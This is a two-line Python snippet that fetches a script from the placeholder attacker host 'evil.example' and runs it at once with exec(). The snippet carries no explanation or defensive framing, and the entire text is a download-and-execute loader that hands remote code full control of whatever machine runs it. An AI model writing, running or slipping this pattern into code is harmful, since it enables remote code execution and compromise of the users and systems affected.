import urllib.request
exec(urllib.request.urlopen("https://evil.example/p.py").read())
